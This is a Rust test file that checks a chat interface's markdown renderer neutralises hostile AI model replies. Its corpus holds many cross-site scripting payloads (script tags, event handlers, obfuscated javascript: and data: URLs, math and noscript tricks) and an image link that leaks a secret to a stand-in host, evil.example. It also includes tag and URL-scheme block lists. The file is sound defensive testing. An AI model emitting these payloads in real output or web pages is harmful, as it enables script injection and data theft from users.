//! Hostile model replies: nothing executable, no outside request, and the text still shown.

mod common;

use common::{tags, visible_text};
use orchard_render::render_markdown;

/// (model reply, text the person must still see).
const CORPUS: &[(&str, &str)] = &[
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    (
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>",
    ),
    ("[x](javascript:alert(1))", "x"),
    ("[x](JaVaScRiPt:alert(1))", "x"),
    ("[x](  javascript:alert(1))", "x"),
    ("[x](&#106;avascript:alert(1))", "x"),
    ("[x](&#x6A;avascript&#x3A;alert(1))", "x"),
    ("[x](java&#x09;script:alert(1))", "x"),
    ("[x](<java\tscript:alert(1)>)", "x"),
    ("[x](javascript&colon;alert(1))", "x"),
    (
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "x",
    ),
    ("[x](vbscript:msgbox(1))", "x"),
    ("[ref][r]\n\n[r]: javascript:alert(1)", "ref"),
    ("<javascript:alert(1)>", "javascript:alert(1)"),
    ("<JAVASCRIPT:alert(1)>", "JAVASCRIPT:alert(1)"),
    (
        "<svg onload=alert(1)><script>alert(2)</script></svg>",
        "<svg onload=alert(1)><script>alert(2)</script></svg>",
    ),
    (
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"javascript:alert(1)\">click</a>",
    ),
    (
        "![](https://evil.example/track.png)",
        "Image from evil.example",
    ),
    (
        "![secret](https://evil.example/leak?d=SECRET)",
        "secret — image from evil.example",
    ),
    (
        "<img src=\"https://evil.example/a.png\">",
        "<img src=\"https://evil.example/a.png\">",
    ),
    (
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe src=\"https://evil.example\"></iframe>",
    ),
    (
        "<style>body{display:none}</style>",
        "<style>body{display:none}</style>",
    ),
    (
        "<math><maction actiontype=\"statusline\" href=\"javascript:alert(1)\"><mtext>x</mtext></maction></math>",
        "<maction",
    ),
    ("![x](javascript:alert(1))", "x"),
    ("![svg](data:image/svg+xml,<svg onload=alert(1)>)", "svg"),
    ("![up](/api/v1/attachments/../../logout)", "up"),
    ("![up](//evil.example/x.png)", "up"),
    (
        "Text[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1)) <script>alert(2)</script>",
        "<img src=x onerror=alert(1)> x <script>alert(2)</script>",
    ),
    (
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n| [x](javascript:alert(1)) | ![t](https://evil.example/t.png) |",
        "<script>alert(1)</script>",
    ),
    ("```\" onmouseover=\"alert(1)\ncode\n```", "code"),
    ("```js\"><script>alert(1)</script>\ncode\n```", "code"),
    (
        "[x](https://ok.example \"\\\" onmouseover=\\\"alert(1)\")",
        "x",
    ),
    (
        "<https://evil.example/\"onmouseover=\"alert(1)>",
        "onmouseover",
    ),
    (
        "$\\text{<img src=x onerror=alert(1)>}$",
        "<img src=x onerror=alert(1)>",
    ),
    (
        "$$</annotation><script>alert(1)</script>$$",
        "<script>alert(1)</script>",
    ),
    ("$\\href{javascript:alert(1)}{x}$", "x"),
    (
        "$\\operatorname{<img src=x onerror=alert(1)>}$",
        "operatorname{<img src=x onerror=alert(1)>}",
    ),
    ("$x < y > z \\& w$", "x < y > z \\& w"),
    (
        "<a href=\"https://ok.example\"><img src=x onerror=alert(1)></a>",
        "<img src=x onerror=alert(1)>",
    ),
    (
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "</noscript>",
    ),
    (
        "<!--<img src=x onerror=alert(1)>-->",
        "<!--<img src=x onerror=alert(1)>-->",
    ),
    (
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<script>alert(1)</script>",
    ),
    (
        "<details open ontoggle=alert(1)><summary>s</summary></details>",
        "ontoggle=alert(1)",
    ),
    (
        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
        "<button>go</button>",
    ),
    ("<object data=\"javascript:alert(1)\"></object>", "<object"),
    ("<base href=\"https://evil.example/\">", "<base"),
    (
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<meta",
    ),
    (
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<link",
    ),
    (
        "- [ ] <img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>",
    ),
    (
        "# <script>alert(1)</script> {#id .class onclick=x}",
        "<script>alert(1)</script>",
    ),
    ("`<script>alert(1)</script>`", "<script>alert(1)</script>"),
    ("> <iframe srcdoc=\"<script>alert(1)</script>\">", "<iframe"),
];

/// Elements that must never appear, whatever the input.
const FORBIDDEN_TAGS: &[&str] = &[
    "script",
    "svg",
    "iframe",
    "style",
    "maction",
    "object",
    "embed",
    "form",
    "base",
    "meta",
    "link",
    "details",
    "noscript",
    "textarea",
    "select",
    "frame",
    "frameset",
    "template",
    "annotation-xml",
    "foreignobject",
    "video",
    "audio",
    "source",
];

fn is_dangerous_url(value: &str) -> bool {
    // Browsers ignore whitespace and control characters inside the scheme.
    let squashed: String = value
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    ["javascript:", "vbscript:", "data:", "livescript:"]
        .iter()
        .any(|scheme| squashed.contains(scheme))
}

fn assert_safe(input: &str, html: &str) {
    for tag in tags(html) {
        assert!(
            !FORBIDDEN_TAGS.contains(&tag.name.as_str()),
            "<{}> in output for {input:?}:\n{html}",
            tag.name
        );
        for (name, value) in &tag.attrs {
            assert!(
                !(name.starts_with("on") && name[2..].bytes().all(|b| b.is_ascii_lowercase())),
                "event handler {name} for {input:?}:\n{html}"
            );
            assert!(
                !is_dangerous_url(value),
                "dangerous attribute {name}={value:?} for {input:?}:\n{html}"
            );
            assert!(
                !matches!(
                    name.as_str(),
                    "style" | "id" | "srcdoc" | "formaction" | "action" | "xlink:href"
                ) || (name == "style" && value.starts_with("text-align: ")),
                "attribute {name}={value:?} for {input:?}:\n{html}"
            );
            if name == "href" {
                assert!(
                    tag.name == "a",
                    "href on <{}> for {input:?}:\n{html}",
                    tag.name
                );
                assert!(
                    value.starts_with("https://")
                        || value.starts_with("http://")
                        || value.starts_with("mailto:"),
                    "href {value:?} for {input:?}:\n{html}"
                );
            }
            if name == "src" {
                assert!(
                    value.starts_with("/api/v1/attachments/"),
                    "<{} src={value:?}> for {input:?}:\n{html}",
                    tag.name
                );
            }
            if value.contains("evil.example") {
                // Outside URLs may only wait for a click: a link, or the image placeholder.
                assert!(
                    (tag.name == "button" && (name == "data-src" || name == "title"))
                        || (tag.name == "a" && name == "href"),
                    "outside URL in <{} {name}> for {input:?}:\n{html}",
                    tag.name
                );
            }
        }
        if tag.name == "a" && !tag.closing {
            let get = |n: &str| {
                tag.attrs
                    .iter()
                    .find(|(k, _)| k == n)
                    .map(|(_, v)| v.as_str())
            };
            assert_eq!(get("rel"), Some("noopener noreferrer"), "{html}");
            assert_eq!(get("target"), Some("_blank"), "{html}");
        }
        if tag.name == "img" && !tag.closing {
            assert!(
                tag.attrs.iter().any(|(k, _)| k == "src"),
                "<img> without src for {input:?}:\n{html}"
            );
        }
    }
}

#[test]
fn hostile_replies_render_inert_and_visible() {
    for (input, visible) in CORPUS {
        let html = render_markdown(input);
        assert_safe(input, &html);
        let text = visible_text(&html);
        assert!(
            text.contains(visible),
            "visible text {visible:?} missing for {input:?}:\ntext: {text:?}\nhtml: {html}"
        );
    }
}

#[test]
fn hostile_replies_stay_safe_when_cut_anywhere() {
    // A streaming reply is re-rendered at every length; each prefix must be safe too.
    for (input, _) in CORPUS {
        for (cut, _) in input.char_indices() {
            let prefix = &input[..cut];
            assert_safe(prefix, &render_markdown(prefix));
        }
    }
}

#[test]
fn outside_images_become_click_to_load_buttons() {
    let html = render_markdown("![](https://evil.example/track.png)");
    assert_eq!(
        html,
        "<p><button type=\"button\" class=\"ext-img\" data-src=\"https://evil.example/track.png\" title=\"https://evil.example/track.png\">Image from evil.example — click to load</button></p>\n"
    );
}

#[test]
fn normal_output_keeps_what_it_should() {
    let html = render_markdown(concat!(
        "See [the docs](https://docs.example/a?b=1) or mail <me@example.com>.\n\n",
        "```rust\nfn main() { let x = 1; }\n```\n\n",
        "| a | b |\n|---|:-:|\n| 1 | 2 |\n\n",
        "Energy: $E = mc^2$\n\n",
        "![chart](/api/v1/attachments/abc123)\n\n",
        "- [x] done\n",
    ));
    assert_safe("normal", &html);
    assert!(
        html.contains(
            r#"<a href="https://docs.example/a?b=1" target="_blank" rel="noopener noreferrer">the docs</a>"#
        ),
        "{html}"
    );
    assert!(
        html.contains(r#"<a href="mailto:me@example.com""#),
        "{html}"
    );
    assert!(
        html.contains(r#"<pre data-lang="rust"><code class="language-rust"><span class="tok-kw">fn</span> <span class="tok-fn">main</span>"#),
        "{html}"
    );
    assert!(
        html.contains("<table><thead><tr><th>a</th><th style=\"text-align: center\">b</th>"),
        "{html}"
    );
    assert!(html.contains("<td>1</td>"), "{html}");
    assert!(
        html.contains("<math display=\"inline\"><semantics><mrow><mi>E</mi>"),
        "{html}"
    );
    assert!(html.contains("<msup><mi>c</mi><mn>2</mn></msup>"), "{html}");
    assert!(
        html.contains(r#"<img src="/api/v1/attachments/abc123" alt="chart">"#),
        "{html}"
    );
    assert!(
        html.contains(
            r#"<li class="task-list-item"><input disabled="" type="checkbox" checked="">"#
        ),
        "{html}"
    );
}

#[test]
fn deep_nesting_is_flattened_not_lost() {
    // Thousands of levels cost html5ever quadratic time; the text must survive the cap.
    let html = render_markdown(&format!("{}deep", "> ".repeat(5000)));
    assert!(html.matches("<blockquote>").count() <= 48, "{html}");
    assert!(html.contains("deep"), "{html}");

    let list: String = (0..100)
        .map(|i| format!("{}- item{i}\n", "  ".repeat(i)))
        .collect();
    let html = render_markdown(&list);
    assert!(html.matches("<li>").count() < 48, "{html}");
    let text = visible_text(&html);
    for i in 0..100 {
        assert!(
            text.contains(&format!("item{i}\n")),
            "item{i} lost: {text:?}"
        );
    }
    assert!(html.contains("item30<br>"), "{html}");
}
